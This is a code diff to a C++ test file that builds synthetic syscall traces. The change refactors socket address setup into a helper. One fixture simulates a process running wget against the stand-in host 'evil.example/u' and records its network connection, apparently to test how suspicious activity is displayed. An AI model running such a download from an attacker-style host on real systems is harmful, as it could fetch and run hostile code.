@@ -1,7 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 #include "tests/tui/stories.h"
 
-#include <arpa/inet.h>
 #include <gtest/gtest.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
@@ -9,6 +8,7 @@
 #include <unistd.h>
 
 #include "format/trace_writer.h"
+#include "tests/replay/addresses.h"
 #include "tests/replay/trace_builder.h"
 
 namespace vestige {
@@ -37,10 +37,7 @@ TraceHeader header() {
 
 void connect_to(TraceBuilder& trace, uint32_t pid, int fd, const char* text,
                 uint16_t port, int64_t ret) {
-  sockaddr_in to{};
-  to.sin_family = AF_INET;
-  to.sin_port = htons(port);
-  inet_pton(AF_INET, text, &to.sin_addr);
+  const sockaddr_in to = in4(text, port);
   trace.call(pid, "socket", {AF_INET, SOCK_STREAM, 0}, fd);
   trace.call(pid, "connect", {uint64_t(fd), 1, sizeof to}, ret)
       .part(1, PartKind::kSockaddr, to);
@@ -132,10 +129,7 @@ void add_talk(TraceBuilder& trace) {
     trace.write(pid, fd, int64_t(bytes.size())).payload(1, bytes, bytes.size());
   };
   const uint32_t wget = start(trace, 823, {"/usr/bin/wget", "evil.example/u"});
-  sockaddr_in to{};
-  to.sin_family = AF_INET;
-  to.sin_port = htons(53);
-  inet_pton(AF_INET, "192.0.2.53", &to.sin_addr);
+  const sockaddr_in to = in4("192.0.2.53", 53);
   trace.call(wget, "socket", {AF_INET, SOCK_DGRAM, 0}, 3);
   trace.call(wget, "connect", {3, 1, sizeof to}, 0)
       .part(1, PartKind::kSockaddr, to);
